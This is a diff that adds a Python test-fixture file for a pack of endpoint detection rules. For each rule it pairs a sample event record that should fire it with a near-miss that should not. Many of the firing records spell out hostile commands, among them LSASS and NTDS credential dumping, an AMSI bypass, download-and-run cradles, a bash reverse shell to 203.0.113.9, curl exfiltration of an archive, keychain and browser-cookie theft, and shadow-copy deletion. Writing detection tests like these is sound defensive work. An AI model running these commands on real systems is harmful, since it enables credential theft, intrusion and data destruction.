@@ -1,0 +1,442 @@
+"""What fires each rule of the starter pack, and what nearly does."""
+
+from tests.unit.detect.starter_records import (
+    Sent,
+    audited,
+    block,
+    executed,
+    launched,
+    log,
+    of,
+    opened,
+    ran,
+    removed,
+    saved,
+    security,
+    service,
+    sysmon,
+    written,
+)
+
+_ENCODED = "SQBFAFgAIAAkAGUAbgB2ADoAUQBRAFEAUQBRAFEAUQA="
+_RUN = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Sync"
+_IFEO = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options"
+_TASKS = "schtasks /create /tn Check /sc minute /tr "
+_STARTUP = "C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"
+_DEFENDER = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\"
+_DEFENDER_LOG = "Microsoft-Windows-Windows Defender/Operational"
+_WINLOGON = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell"
+_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
+_W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
+_WMI = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
+_CHROME = "/Users/ann/Library/Application Support/Google/Chrome/Default"
+_REPLICATION = "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
+_GUID = "{d68bf9c4-2f5e-5f67-0c01-000000000a00}"
+
+WINDOWS: dict[str, tuple[Sent, Sent]] = {
+    "windows_lsass_dumped_by_command": (
+        ran("rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 x full"),
+        ran("C:\\t\\procdump64.exe", "procdump64.exe -ma notepad.exe n.dmp"),
+    ),
+    "windows_lsass_opened_to_read": (
+        opened("C:\\Users\\ann\\tool.exe", "0x1410"),
+        opened("C:\\Users\\ann\\tool.exe", "0x1000"),
+    ),
+    "windows_lsass_dump_written": (
+        of(11, "rundll32.exe", TargetFilename="C:\\Windows\\Temp\\lsass_712.DMP"),
+        of(11, "rundll32.exe", TargetFilename="C:\\Windows\\Temp\\lsass_712.txt"),
+    ),
+    "windows_directory_database_copied": (
+        ran("ntdsutil.exe", 'ntdsutil "ac i ntds" ifm "create full c:\\x" q q'),
+        ran("ntdsutil.exe", "ntdsutil files info"),
+    ),
+    "windows_directory_database_written": (
+        of(11, "ntdsutil.exe", TargetFilename="C:\\Windows\\Temp\\x\\ntds.dit"),
+        of(11, "lsass.exe", TargetFilename="C:\\Windows\\NTDS\\ntds.dit"),
+    ),
+    "windows_registry_hives_saved": (
+        ran("reg.exe", "reg save HKLM\\SAM C:\\x.hiv"),
+        ran("reg.exe", "reg save HKLM\\SYSTEM\\CurrentControlSet\\Services\\Dhcp C:\\x.hiv"),
+    ),
+    "windows_office_starts_shell": (
+        ran("cmd.exe", "cmd /c whoami", parent=_WORD),
+        ran("splwow64.exe", "splwow64.exe 8192", parent=_WORD),
+    ),
+    "windows_powershell_encoded_and_hidden": (
+        ran("powershell.exe", f"powershell -nop -w hidden -enc {_ENCODED}"),
+        ran("powershell.exe", f"powershell -EncodedCommand {_ENCODED}"),
+    ),
+    "windows_powershell_downloads_and_runs": (
+        ran("powershell.exe", "powershell iwr https://x.invalid/a.ps1 | iex"),
+        ran("powershell.exe", "powershell iwr https://x.invalid/a.zip -OutFile a.zip"),
+    ),
+    "windows_script_block_downloads_and_runs": (
+        block("$c=New-Object Net.WebClient;$c.DownloadString('https://x.invalid/a')|iex"),
+        block("(New-Object Net.WebClient).DownloadFile('https://x.invalid/a.csv','a.csv')"),
+    ),
+    "windows_script_block_bypasses_amsi": (
+        block("[Ref].Assembly.GetType($t).GetField('amsiInitFailed',$f).SetValue($null,$true)"),
+        block("Get-Help about_AMSI"),
+    ),
+    "windows_mshta_runs_foreign_code": (
+        ran("mshta.exe", "mshta.exe https://x.invalid/a.hta"),
+        ran("mshta.exe", "mshta.exe C:\\Windows\\System32\\tool.hta"),
+    ),
+    "windows_regsvr32_runs_scriptlet": (
+        ran("regsvr32.exe", "regsvr32 /s /n /u /i:https://x.invalid/a.sct SCROBJ.dll"),
+        ran("regsvr32.exe", "regsvr32 /s /i:user C:\\Windows\\System32\\a.dll"),
+    ),
+    "windows_rundll32_runs_foreign_code": (
+        ran("rundll32.exe", "rundll32 C:\\Users\\ann\\AppData\\Local\\Temp\\a.dll,Start"),
+        ran("rundll32.exe", "rundll32 C:\\Windows\\System32\\shell32.dll,Control_RunDLL"),
+    ),
+    "windows_certutil_fetches_or_decodes": (
+        ran("certutil.exe", "certutil /urlcache /f http://x.invalid/a a.exe"),
+        ran("certutil.exe", "certutil -verify -urlfetch a.cer"),
+    ),
+    "windows_bits_downloads_file": (
+        ran("bitsadmin.exe", "bitsadmin /transfer j https://x.invalid/a C:\\a.exe"),
+        ran("bitsadmin.exe", "bitsadmin /list /allusers"),
+    ),
+    "windows_script_from_download": (
+        ran("wscript.exe", "wscript C:\\Users\\ann\\Downloads\\invoice.js"),
+        ran("wscript.exe", "wscript C:\\Windows\\System32\\slmgr.vbs /dli"),
+    ),
+    "windows_build_tool_from_user_folder": (
+        ran("C:\\x\\MSBuild.exe", "msbuild C:\\Users\\Public\\a.xml"),
+        ran("C:\\x\\MSBuild.exe", "msbuild C:\\src\\shop\\all.sln"),
+    ),
+    "windows_shadow_copies_deleted": (
+        ran("vssadmin.exe", "vssadmin Delete Shadows /All /Quiet"),
+        ran("vssadmin.exe", "vssadmin list shadows"),
+    ),
+    "windows_recovery_disabled": (
+        ran("bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
+        ran("bcdedit.exe", "bcdedit /set {default} recoveryenabled Yes"),
+    ),
+    "windows_servers_stopped": (
+        ran("net.exe", "net stop MSSQLSERVER /y"),
+        ran("net.exe", "net stop Spooler"),
+    ),
+    "windows_event_logs_cleared_by_command": (
+        ran("wevtutil.exe", "wevtutil cl Security"),
+        ran("wevtutil.exe", "wevtutil gl Security"),
+    ),
+    "windows_audit_log_cleared": (security(1102), security(1100)),
+    "windows_other_log_cleared": (
+        log("System", 104, "Microsoft-Windows-Eventlog", Channel="Application"),
+        log("System", 104, "Microsoft-Windows-Other"),
+    ),
+    "windows_defender_disabled_by_command": (
+        ran("powershell.exe", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
+        ran("powershell.exe", "powershell Set-MpPreference -ScanScheduleDay 2"),
+    ),
+    "windows_defender_disabled_in_registry": (
+        of(
+            13,
+            "reg.exe",
+            EventType="SetValue",
+            TargetObject=_DEFENDER + "DisableAntiSpyware",
+            Details="DWORD (0x00000001)",
+        ),
+        of(
+            13,
+            "reg.exe",
+            EventType="SetValue",
+            TargetObject=_DEFENDER + "DisableAntiSpyware",
+            Details="DWORD (0x00000000)",
+        ),
+    ),
+    "windows_defender_found_threat": (
+        log(_DEFENDER_LOG, 1116, **{"Threat Name": "Trojan:Win32/Test"}),
+        log(_DEFENDER_LOG, 1001),
+    ),
+    "windows_firewall_disabled": (
+        ran("netsh.exe", "netsh advfirewall set allprofiles state off"),
+        ran("netsh.exe", "netsh advfirewall set allprofiles state on"),
+    ),
+    "windows_autostart_from_writable_folder": (
+        of(13, "a.exe", TargetObject=_RUN, Details="C:\\Users\\ann\\AppData\\Roaming\\s.exe"),
+        of(13, "a.exe", TargetObject=_RUN, Details="C:\\Program Files\\Sync\\s.exe"),
+    ),
+    "windows_logon_program_replaced": (
+        of(13, "reg.exe", TargetObject=_WINLOGON, Details="explorer.exe,C:\\t.exe"),
+        of(13, "reg.exe", TargetObject=_WINLOGON, Details="Explorer.exe"),
+    ),
+    "windows_debugger_set_for_program": (
+        of(13, "reg.exe", TargetObject=f"{_IFEO}\\sethc.exe\\Debugger", Details="cmd.exe"),
+        of(13, "reg.exe", TargetObject=f"{_IFEO}\\sethc.exe\\UseFilter", Details="1"),
+    ),
+    "windows_service_runs_unusual_command": (
+        service("abcd", "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\o"),
+        service("Helper", "C:\\Program Files\\Helper\\helper.exe"),
+    ),
+    "windows_remote_execution_service": (
+        service("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
+        service("EXESVC", "%SystemRoot%\\EXESVC.exe"),
+    ),
+    "windows_scheduled_task_of_unusual_program": (
+        ran("schtasks.exe", _TASKS + "C:\\PerfLogs\\t.exe /ru SYSTEM"),
+        ran("schtasks.exe", _TASKS + '"C:\\Program Files\\Backup\\b.exe"'),
+    ),
+    "windows_scheduled_task_registered_with_code": (
+        security(4698, TaskName="\\x", TaskContent=f"<Arguments>-w 1 -enc {_ENCODED}"),
+        security(4698, TaskName="\\x", TaskContent="<Command>C:\\Program Files\\b.exe"),
+    ),
+    "windows_script_in_startup_folder": (
+        of(11, "wscript.exe", TargetFilename=_STARTUP + "sync.vbs"),
+        of(11, "wscript.exe", TargetFilename=_STARTUP + "desktop.ini"),
+    ),
+    "windows_wmi_consumer_runs_code": (
+        sysmon(20, EventType="WmiConsumerEvent", Type="Command Line", Destination="cmd /c a"),
+        sysmon(20, EventType="WmiConsumerEvent", Type="NT Event Log", Destination="x"),
+    ),
+    "windows_wmic_starts_remote_process": (
+        ran("C:\\x\\wmic.exe", "wmic /node:iis1 process call create calc.exe"),
+        ran("C:\\x\\wmic.exe", "wmic process call create calc.exe"),
+    ),
+    "windows_wmi_starts_remote_shell": (
+        ran("cmd.exe", "cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1", parent=_WMI),
+        ran("cmd.exe", "cmd.exe /c dir", parent=_WMI),
+    ),
+    "windows_remote_execution_service_starts_shell": (
+        ran("cmd.exe", "cmd", parent="C:\\Windows\\PSEXESVC.exe"),
+        ran("cmd.exe", "cmd", parent="C:\\Windows\\services.exe"),
+    ),
+    "windows_remote_management_starts_shell": (
+        ran("cmd.exe", "cmd /c dir", parent="wsmprovhost.exe"),
+        ran("conhost.exe", "conhost", parent="wsmprovhost.exe"),
+    ),
+    "windows_web_server_starts_shell": (
+        ran("cmd.exe", "cmd /c whoami", parent=_W3WP),
+        ran("cmd.exe", "cmd /c C:\\Windows\\Microsoft.NET\\Framework64\\csc.exe", parent=_W3WP),
+    ),
+    "windows_web_page_written_by_server": (
+        of(11, _W3WP, TargetFilename="C:\\inetpub\\wwwroot\\a.aspx"),
+        of(11, _W3WP, TargetFilename="C:\\inetpub\\wwwroot\\a.log"),
+    ),
+    "windows_thread_started_in_lsass": (
+        sysmon(8, SourceProcessGuid=_GUID, SourceImage="C:\\t.exe", TargetImage="C:\\lsass.exe"),
+        sysmon(8, SourceProcessGuid=_GUID, SourceImage="C:\\t.exe", TargetImage="C:\\a.exe"),
+    ),
+    "windows_program_from_odd_folder": (
+        ran("C:\\Users\\Public\\t.exe", "t"),
+        ran("C:\\Users\\Publican\\t.exe", "t"),
+    ),
+    "windows_system_name_in_other_folder": (
+        ran("C:\\ProgramData\\svchost.exe", "svchost"),
+        ran("svchost.exe", "svchost -k netsvcs"),
+    ),
+    "windows_document_that_is_a_program": (
+        ran("C:\\Users\\ann\\Downloads\\invoice.pdf.exe", "x"),
+        ran("C:\\Users\\ann\\Downloads\\pdf.exe", "x"),
+    ),
+    "windows_domain_explored": (
+        ran("nltest.exe", "nltest /domain_trusts"),
+        ran("net.exe", "net group /help"),
+    ),
+    "windows_account_made_administrator": (
+        ran("net1.exe", "net1 localgroup Administrators eve /add"),
+        ran("net1.exe", "net1 localgroup Administrators"),
+    ),
+    "windows_elevation_by_class_of_user": (
+        of(
+            13,
+            "reg.exe",
+            TargetObject="HKU\\S-1-5-21-1_Classes\\ms-settings\\shell\\open\\command\\(Default)",
+            Details="cmd.exe",
+        ),
+        of(
+            13,
+            "reg.exe",
+            TargetObject="HKLM\\SOFTWARE\\Classes\\ms-settings\\shell\\open\\command\\(Default)",
+            Details="x.exe",
+        ),
+    ),
+    "windows_service_ticket_with_weak_cipher": (
+        security(
+            4769,
+            TargetUserName="eve@CORP",
+            ServiceName="svc-sql",
+            TicketEncryptionType="0x17",
+            Status="0x0",
+        ),
+        security(
+            4769,
+            TargetUserName="eve@CORP",
+            ServiceName="FILES1$",
+            TicketEncryptionType="0x17",
+            Status="0x0",
+        ),
+    ),
+    "windows_directory_replicated_by_user": (
+        security(4662, SubjectUserName="eve", Properties=_REPLICATION),
+        security(4662, SubjectUserName="DC2$", Properties=_REPLICATION),
+    ),
+    "windows_driver_from_writable_folder": (
+        sysmon(6, ImageLoaded="C:\\Users\\ann\\drv.sys", Signed="true"),
+        sysmon(6, ImageLoaded="C:\\Windows\\System32\\drivers\\drv.sys", Signed="true"),
+    ),
+    "windows_library_unsigned_in_system_process": (
+        of(7, "dllhost.exe", ImageLoaded="C:\\Users\\Public\\a.dll", Signed="false"),
+        of(7, "dllhost.exe", ImageLoaded="C:\\Users\\Public\\a.dll", Signed="true"),
+    ),
+    "windows_pipe_of_attack_tool": (
+        of(17, "a.exe", EventType="CreatePipe", PipeName="\\postex_1f2a"),
+        of(17, "a.exe", EventType="CreatePipe", PipeName="\\chrome.1f2a"),
+    ),
+    "windows_loader_connects_outside": (
+        of(3, "mshta.exe", Initiated="true", DestinationIp="203.0.113.9"),
+        of(3, "mshta.exe", Initiated="true", DestinationIp="10.2.3.4"),
+    ),
+    "windows_interpreter_asks_for_paste_site": (
+        of(22, "powershell.exe", QueryName="raw.githubusercontent.com"),
+        of(22, "git.exe", QueryName="raw.githubusercontent.com"),
+    ),
+    "windows_ransom_note_written": (
+        of(11, "a.exe", TargetFilename="C:\\Users\\ann\\HOW_TO_DECRYPT_FILES.html"),
+        of(11, "a.exe", TargetFilename="C:\\Users\\ann\\how-to-build.html"),
+    ),
+    "windows_archive_with_password": (
+        ran("C:\\x\\7z.exe", "7z a -pS3cret -mhe C:\\a.7z C:\\data"),
+        ran("C:\\x\\7z.exe", "7z a C:\\a.7z C:\\data"),
+    ),
+    "windows_plain_passwords_kept_in_memory": (
+        of(
+            13,
+            "reg.exe",
+            TargetObject="HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest"
+            "\\UseLogonCredential",
+            Details="DWORD (0x00000001)",
+        ),
+        of(
+            13,
+            "reg.exe",
+            TargetObject="HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest"
+            "\\UseLogonCredential",
+            Details="DWORD (0x00000000)",
+        ),
+    ),
+    "windows_tunnel_opened": (
+        ran("C:\\x\\plink.exe", "plink -N -R 8080:10.0.0.1:3389 u@203.0.113.9"),
+        ran("C:\\x\\plink.exe", "plink u@10.0.0.1"),
+    ),
+    "windows_disk_made_unreadable": (
+        ran("cipher.exe", "cipher /w:C:\\data"),
+        ran("cipher.exe", "cipher /e C:\\data"),
+    ),
+}
+
+UNIX: dict[str, tuple[Sent, Sent]] = {
+    "linux_reverse_shell": (
+        executed("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+        executed("/usr/bin/nc", "nc -z -e5 10.0.0.1 22"),
+    ),
+    "linux_server_starts_shell": (
+        executed("/usr/bin/dash", "sh -c whoami", parent="/usr/sbin/nginx"),
+        executed("/usr/bin/dash", "sh -c whoami", parent="/usr/sbin/sshd"),
+    ),
+    "linux_download_piped_to_shell": (
+        executed("/usr/bin/bash", "bash -c curl -fsSL http://x.invalid/a | bash"),
+        executed("/usr/bin/bash", "bash -c curl -fsSL http://x.invalid/a | jq ."),
+    ),
+    "linux_decoded_text_piped_to_shell": (
+        executed("/usr/bin/bash", "bash -c echo aWQK | base64 -d | sh"),
+        executed("/usr/bin/bash", "bash -c echo aWQK | base64 -d | wc"),
+    ),
+    "linux_login_keys_written": (
+        written("/usr/bin/bash", "/root/.ssh/authorized_keys"),
+        written("/usr/bin/bash", "/root/.ssh/known_hosts"),
+    ),
+    "linux_cron_job_written": (
+        written("/usr/bin/bash", "/etc/cron.d/sync"),
+        written("/usr/bin/dpkg", "/etc/cron.d/sync"),
+    ),
+    "linux_preload_file_written": (
+        written("/usr/bin/bash", "/etc/ld.so.preload"),
+        written("/usr/bin/bash", "/etc/ld.so.cache"),
+    ),
+    "linux_hidden_program_in_temporary_folder": (
+        executed("/var/tmp/.cache/kworkerd", "kworkerd"),
+        executed("/var/tmp/install/setup", "setup"),
+    ),
+    "linux_miner_started": (
+        executed("/opt/a", "a -o pool.invalid:3333"),
+        executed("/opt/a", "a -o thread-pool.log"),
+    ),
+    "linux_shell_history_removed": (
+        removed("/usr/bin/rm", "/root/.bash_history"),
+        removed("/usr/bin/rm", "/root/.bashrc"),
+    ),
+    "linux_shell_history_switched_off": (
+        executed("/usr/bin/bash", "bash -c unset HISTFILE"),
+        executed("/usr/bin/bash", "bash -c echo HISTFILE"),
+    ),
+    "linux_service_unit_written": (
+        written("/usr/bin/python3.11", "/etc/systemd/system/a.service"),
+        written("/usr/bin/dpkg", "/etc/systemd/system/a.service"),
+    ),
+    "linux_password_file_read": (
+        executed("/usr/bin/cat", "cat /etc/shadow"),
+        executed("/usr/bin/cat", "cat /etc/passwd"),
+    ),
+    "linux_program_made_root": (
+        executed("/usr/bin/chmod", "chmod u+s /tmp/sh"),
+        executed("/usr/bin/chmod", "chmod 755 /tmp/sh"),
+    ),
+    "linux_kernel_module_inserted": (
+        executed("/usr/sbin/insmod", "insmod /tmp/a.ko"),
+        executed("/usr/sbin/insmod", "insmod /lib/modules/6.1/a.ko"),
+    ),
+    "linux_protection_stopped": (
+        executed("/usr/bin/systemctl", "systemctl stop auditd"),
+        executed("/usr/bin/systemctl", "systemctl stop nginx"),
+    ),
+    "linux_audit_rules_removed": (
+        audited("CONFIG_CHANGE", op="remove_rule", key="exec", list=4, res=1),
+        audited("CONFIG_CHANGE", op="add_rule", key="exec", list=4, res=1),
+    ),
+    "linux_container_left": (
+        executed("/usr/bin/nsenter", "nsenter -t 1 -m -u sh"),
+        executed("/usr/bin/nsenter", "nsenter -t 1234 -n ip a"),
+    ),
+    "linux_web_page_written_by_server": (
+        written("/usr/sbin/php-fpm8.2", "/var/www/html/a.php"),
+        written("/usr/sbin/php-fpm8.2", "/var/www/html/cache/a.php"),
+    ),
+    "macos_password_asked_by_script": (
+        launched("/usr/bin/osascript", "osascript -e display dialog x with hidden answer"),
+        launched("/usr/bin/osascript", "osascript -e display dialog ready"),
+    ),
+    "macos_script_runs_shell_command": (
+        launched("/usr/bin/osascript", 'osascript -e do shell script "curl x.invalid"'),
+        launched("/usr/bin/osascript", 'osascript -e do shell script "date"'),
+    ),
+    "macos_keychain_dumped": (
+        launched("/usr/bin/security", "security dump-keychain -d login.keychain-db"),
+        launched("/usr/bin/security", "security find-generic-password -s WiFi"),
+    ),
+    "macos_browser_secrets_copied": (
+        launched("/bin/cp", f"cp {_CHROME}/Cookies /tmp/c"),
+        launched("/bin/cp", f"cp {_CHROME}/Bookmarks /tmp/c"),
+    ),
+    "macos_launch_agent_written": (
+        saved("/private/tmp/a", "/Users/ann/Library/LaunchAgents/com.a.plist"),
+        saved("/Applications/A.app/A", "/Users/ann/Library/LaunchAgents/com.a.plist"),
+    ),
+    "macos_quarantine_removed": (
+        launched("/usr/bin/xattr", "xattr -d com.apple.quarantine a.app"),
+        launched("/usr/bin/xattr", "xattr -p com.apple.quarantine a.app"),
+    ),
+    "macos_protection_disabled": (
+        launched("/usr/sbin/spctl", "spctl --master-disable"),
+        launched("/usr/sbin/spctl", "spctl --status"),
+    ),
+    "macos_archive_sent_by_command": (
+        launched("/usr/bin/curl", "curl -X POST -F file=@/tmp/mn.zip http://203.0.113.9/j"),
+        launched("/usr/bin/curl", "curl -O https://x.invalid/mn.zip"),
+    ),
+}
+
+CASES = WINDOWS | UNIX
+"""By the name of the rule's file: a record that fires it, and one that nearly does."""
